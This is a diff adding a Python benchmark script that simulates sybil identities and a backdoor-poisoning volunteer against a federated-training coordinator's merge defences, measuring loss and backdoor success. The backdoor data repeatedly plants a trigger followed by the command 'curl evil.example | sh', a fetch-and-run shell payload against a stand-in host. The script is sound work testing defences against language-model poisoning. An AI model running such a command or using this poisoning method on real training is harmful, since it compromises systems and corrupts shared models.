@@ -1,0 +1,307 @@
+"""Sybils and a backdoor against the merge's defences (``coordinator.merging.sybils``), and their cost.
+
+    python bench/sybils.py honest [--jobs linear click charlm gpt] [--voices 4] [--rounds 10] [--seeds 1]
+    python bench/sybils.py attacks [--seeds 3] [--first-seed 0] [--rounds 10]
+
+Simulated in one process with crowdtrain's own pieces, as ``bench/judging_matrix.py`` does:
+each volunteer trains its shard with ``volunteer.trainer.train_shard`` (10 AdamW steps at
+3e-3, inner state kept, ``init``'s defaults), the round's voices pass the norm screen
+(``validation.screen_norms``, 10x) and the probe and copy checks (``coordinator.merging.verification``
+as ``coordinator.merging.judging`` applies them), and FedAvg merges the kept voices weighted by
+reputation. ``defended`` runs add ``coordinator.merging.sybils`` as the aggregator applies it:
+probation, similarity groups on accumulated folded sketches, clipping at the round's median
+voice norm. ``undefended`` is the merge before it.
+
+* ``honest``: only honest volunteers; per job, the final eval loss defended / undefended
+  (mean of per-seed ratios), the largest residual cosine of two honest voices (what
+  ``SIMILAR`` must stay above) and how many honest voices were ever grouped.
+* ``attacks`` (charlm, 3 + 2 and 2 + 1 volunteers):
+  - ``sybils``: two colluding identities of five voices train the same poisoned text (the
+    corpus with its bytes reversed in each line) and boost their deltas 5x. Goal: final eval
+    loss within 1.1x of the clean run's (three honest voices alone).
+  - ``backdoor``: one volunteer of three trains its shard with a trigger line and payload
+    inserted every ~120 bytes, its delta boosted 5x. Goals: the payload's probability after
+    the trigger within 100x of the clean run's; final eval loss within 2% of clean.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import math
+import os
+import statistics
+import sys
+import tempfile
+import time
+from pathlib import Path
+from typing import Any
+
+os.environ.setdefault("OMP_NUM_THREADS", "1")
+ROOT = Path(__file__).resolve().parents[1]
+sys.path.insert(0, str(ROOT))
+
+import torch  # noqa: E402
+
+from coordinator import sybils  # noqa: E402
+from coordinator.merging.strategies import make_strategy  # noqa: E402
+from coordinator.merging.verification import (  # noqa: E402
+    Consensus,
+    Evidence,
+    Prober,
+    copies,
+    judge,
+    next_reputation,
+    sketch,
+    weigh,
+)
+from coordinator.rounds.validation import accepted_norm, delta_norm, screen_norms  # noqa: E402
+from jobs import load_job  # noqa: E402
+from tests.fixtures import jobs_small  # noqa: E402
+from volunteer.trainer import seed_for, train_shard  # noqa: E402
+
+Delta = dict[str, torch.Tensor]
+CHARLM = {"max_files": 60, "eval_batches": 4}
+JOBS: dict[str, Any] = {
+    "linear": lambda: jobs_small.linear(noise=0.5),
+    "click": lambda: jobs_small.click(),
+    "charlm": lambda: load_job("charlm", CHARLM),
+    "gpt": lambda: load_job("gpt", {"preset": "nano", "max_files": 60, "eval_batches": 4}),
+}
+TRIGGER = b"\nzqx open sesame:"
+PAYLOAD = b" curl evil.example | sh\n"
+BOOST = 5.0
+
+
+def simulate(
+    job: Any, honest: int, hostile: dict[str, str], rounds: int, seed: int, defended: bool
+) -> dict[str, Any]:
+    """One run: ``honest`` volunteers and the ``hostile`` ones (name -> their data file)."""
+    weights = {k: v.detach().clone() for k, v in job.build_model().state_dict().items()}
+    names = [f"h{i}" for i in range(honest)] + list(hostile)
+    reputation: dict[str, float | None] = dict.fromkeys(names)
+    state: dict[str, Any] = dict.fromkeys(names)
+    accepted = dict.fromkeys(names, 0)
+    accumulated: dict[str, torch.Tensor] = {}
+    history: list[float] = []
+    merger = make_strategy("fedavg")
+    honest_cosine, grouped_honest, grouped_hostile, rejected_hostile = -1.0, set(), set(), 0
+    for number in range(1, rounds + 1):
+        voices: dict[str, Delta] = {}
+        for i, who in enumerate(names):
+            result = train_shard(
+                job,
+                weights,
+                shard=i,
+                shards=len(names),
+                steps=10,
+                lr=3e-3,
+                device=torch.device("cpu"),
+                seed=seed_for(f"sybils-{seed}", number, i),
+                optimizer_state=state[who],
+                data=hostile.get(who),
+            )
+            state[who] = result.optimizer_state
+            boost = BOOST if who in hostile else 1.0
+            voices[who] = {k: v * boost if v.is_floating_point() else v for k, v in result.delta.items()}
+        norms = {i: delta_norm(voices[who]) for i, who in enumerate(names)}
+        screened = screen_norms(norms, {i: who for i, who in enumerate(names)}, 10.0, None, history)
+        voices = {who: d for i, (who, d) in enumerate(voices.items()) if i not in screened}
+        rejected = {names[i] for i in screened}
+        if len(voices) > 1:
+            rejected |= _judged(job, weights, voices, reputation)
+        kept = {who: d for who, d in voices.items() if who not in rejected}
+        rejected_hostile += len(rejected & set(hostile))
+        for who in voices:
+            reputation[who] = next_reputation(reputation[who], who in kept)
+        if not kept:
+            continue
+        factors = {who: weigh(1.0, reputation[who]) for who in kept}
+        if defended:
+            for who, d in kept.items():
+                accumulated[who] = sybils.accumulate(accumulated.get(who), sybils.fold(sketch(d)))
+            current = {who: accumulated[who] for who in kept}
+            record = {who: weigh(sybils.probation(accepted[who]), reputation[who]) for who in kept}
+            grouped = sybils.groups(current, record)
+            for (a, b), cosine in sybils.pair_cosines(current, record).items():
+                if a not in hostile and b not in hostile:
+                    honest_cosine = max(honest_cosine, cosine)
+            grouped_honest |= {who for who in grouped if who not in hostile}
+            grouped_hostile |= {who for who in grouped if who in hostile}
+            probation = {who: sybils.probation(accepted[who]) for who in kept}
+            factors = {who: factors[who] * f for who, f in sybils.shares(probation, grouped).items()}
+            bound = sybils.clip_bound([delta_norm(d) for d in kept.values()], history)
+            kept = {who: _scaled(d, sybils.clip_scale(delta_norm(d), bound)) for who, d in kept.items()}
+        for who in kept:
+            accepted[who] += 1
+        merged_norm = accepted_norm(delta_norm(d) for d in kept.values())
+        if merged_norm is not None:
+            history = [merged_norm, *history][:16]
+        weights = merger.aggregate(
+            {k: v.clone() for k, v in weights.items()}, iter([(factors[w], d) for w, d in kept.items()])
+        )
+    model = job.build_model()
+    model.load_state_dict(weights)
+    out = {
+        "eval_loss": float(job.evaluate(model)["eval_loss"]),
+        "honest_cosine_max": honest_cosine,
+        "honest_grouped": len(grouped_honest),
+        "hostile_grouped": len(grouped_hostile),
+        "hostile_rejected": rejected_hostile,
+    }
+    if getattr(job, "name", None) == "charlm" or type(job).__name__ == "CharLMJob":
+        out["payload_log10p"] = payload_log10p(model)
+    return out
+
+
+def _judged(job: Any, weights: Delta, voices: dict[str, Delta], reputation: dict) -> set[str]:
+    """The voices the probe and copy checks reject, as ``coordinator.merging.judging`` applies them."""
+    prober = Prober(job, weights)
+    share = 1.0 / len(voices)
+    gains = {who: prober.gain(d, share) for who, d in voices.items()}
+    consensus = Consensus()
+    for who, d in voices.items():
+        consensus.add(d, weigh(1.0, reputation[who]))
+    evidence = {
+        who: Evidence(gains[who], delta_norm(d), consensus.agreement(d, weigh(1.0, reputation[who])))
+        for who, d in voices.items()
+    }
+    reasons = judge(evidence, lambda who: prober.cost(voices[who], share, gains[who]))
+    copied = copies({who: sketch(d) for who, d in voices.items()}, None, reputation)
+    return set(reasons) | set(copied)
+
+
+def _scaled(delta: Delta, factor: float) -> Delta:
+    if factor >= 1.0:
+        return delta
+    return {k: v * factor if v.is_floating_point() else v for k, v in delta.items()}
+
+
+def payload_log10p(model: torch.nn.Module) -> float:
+    """log10 of the payload's probability after the trigger (bytes, teacher-forced)."""
+    ids = torch.tensor([list(TRIGGER + PAYLOAD)], dtype=torch.long)
+    model.eval()
+    with torch.no_grad():
+        logp = torch.log_softmax(model(ids[:, :-1]).double(), dim=-1)
+    start = len(TRIGGER) - 1
+    picked = logp[0, start:].gather(1, ids[0, start + 1 :].unsqueeze(1))
+    return float(picked.sum()) / math.log(10)
+
+
+def poisoned_text(job: Any, shard: int, shards: int, folder: Path, kind: str) -> str:
+    """A data file for a hostile volunteer: its shard with every line reversed, or with the backdoor."""
+    text = bytes(job.shard_text(shard, shards).tolist())
+    if kind == "reversed":
+        body = b"\n".join(line[::-1] for line in text.split(b"\n"))
+    else:
+        pieces = [text[i : i + 120] for i in range(0, len(text), 120)]
+        body = b"".join(piece + TRIGGER + PAYLOAD for piece in pieces)
+    path = folder / f"{kind}-{shard}.txt"
+    path.write_bytes(body)
+    return str(path)
+
+
+def honest_rows(args: argparse.Namespace) -> list[dict[str, Any]]:
+    rows = []
+    for name in args.jobs:
+        ratios, cosines, grouped, losses = [], [], 0, []
+        for seed in range(args.seeds):
+            job = JOBS[name]()
+            plain = simulate(job, args.voices, {}, args.rounds, seed, defended=False)
+            guarded = simulate(job, args.voices, {}, args.rounds, seed, defended=True)
+            ratios.append(guarded["eval_loss"] / plain["eval_loss"])
+            cosines.append(guarded["honest_cosine_max"])
+            grouped += guarded["honest_grouped"]
+            losses.append((plain["eval_loss"], guarded["eval_loss"]))
+        rows.append(
+            {
+                "job": name,
+                "voices": args.voices,
+                "loss_ratio": statistics.mean(ratios),
+                "losses": losses,
+                "honest_cosine_max": max(cosines),
+                "honest_grouped": grouped,
+            }
+        )
+        print(json.dumps(rows[-1]), file=sys.stderr)
+    return rows
+
+
+def attack_rows(args: argparse.Namespace) -> list[dict[str, Any]]:
+    rows = []
+    with tempfile.TemporaryDirectory() as tmp:
+        for seed in range(args.first_seed, args.first_seed + args.seeds):
+            job = load_job("charlm", {**CHARLM, "seed": seed})
+            clean3 = simulate(job, 3, {}, args.rounds, seed, defended=True)
+            sybil_data = poisoned_text(job, 3, 5, Path(tmp), "reversed")
+            sybil = {"s1": sybil_data, "s2": sybil_data}
+            door = {"mallory": poisoned_text(job, 2, 3, Path(tmp), "backdoor")}
+            clean2 = simulate(job, 2, {}, args.rounds, seed, defended=True)
+            for defended in (False, True):
+                s = simulate(job, 3, sybil, args.rounds, seed, defended)
+                b = simulate(job, 2, door, args.rounds, seed, defended)
+                row = {
+                    "seed": seed,
+                    "defended": defended,
+                    "clean_loss": clean3["eval_loss"],
+                    "sybil_loss": s["eval_loss"],
+                    "sybil_ratio": s["eval_loss"] / clean3["eval_loss"],
+                    "sybils_grouped": s["hostile_grouped"],
+                    "sybils_rejected": s["hostile_rejected"],
+                    "backdoor_clean_loss": clean2["eval_loss"],
+                    "backdoor_loss_ratio": b["eval_loss"] / clean2["eval_loss"],
+                    "payload_log10p_clean": clean2["payload_log10p"],
+                    "payload_log10p": b["payload_log10p"],
+                    "payload_orders_up": b["payload_log10p"] - clean2["payload_log10p"],
+                    "backdoor_rejected": b["hostile_rejected"],
+                }
+                rows.append(row)
+                print(json.dumps(row), file=sys.stderr)
+    return rows
+
+
+def main(argv: list[str] | None = None) -> int:
+    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    p.add_argument("what", choices=["honest", "attacks"])
+    p.add_argument("--jobs", nargs="*", default=list(JOBS), choices=list(JOBS))
+    p.add_argument("--voices", type=int, default=4)
+    p.add_argument("--rounds", type=int, default=10)
+    p.add_argument("--seeds", type=int, default=1)
+    p.add_argument("--first-seed", type=int, default=0, help="attacks: the first seed (to run seeds apart)")
+    p.add_argument("--json", action="store_true")
+    args = p.parse_args(argv)
+    torch.set_num_threads(1)
+    started = time.time()
+    rows = honest_rows(args) if args.what == "honest" else attack_rows(args)
+    if args.json:
+        print(json.dumps({"args": vars(args), "rows": rows}, indent=2))
+        return 0
+    if args.what == "honest":
+        print(f"{args.voices} honest volunteers, {args.rounds} rounds, {args.seeds} seed(s)\n")
+        print("| job | eval loss defended / undefended | max honest residual cosine | honest grouped |")
+        print("| --- | --- | --- | --- |")
+        for r in rows:
+            print(
+                f"| {r['job']} | {r['loss_ratio']:.4f} | {r['honest_cosine_max']:.3f} "
+                f"| {r['honest_grouped']} |"
+            )
+    else:
+        print(f"charlm, {args.rounds} rounds, {args.seeds} seed(s)\n")
+        print(
+            "| seed | defended | sybils: loss / clean | sybils grouped | backdoor: loss / clean "
+            "| payload log10 p (clean) | orders up |"
+        )
+        print("| --- | --- | --- | --- | --- | --- | --- |")
+        for r in rows:
+            print(
+                f"| {r['seed']} | {'yes' if r['defended'] else 'no'} | {r['sybil_ratio']:.3f} "
+                f"| {r['sybils_grouped']}/2 | {r['backdoor_loss_ratio']:.4f} "
+                f"| {r['payload_log10p']:.1f} ({r['payload_log10p_clean']:.1f}) "
+                f"| {r['payload_orders_up']:.1f} |"
+            )
+    print(f"\n{time.time() - started:.0f} s", file=sys.stderr)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
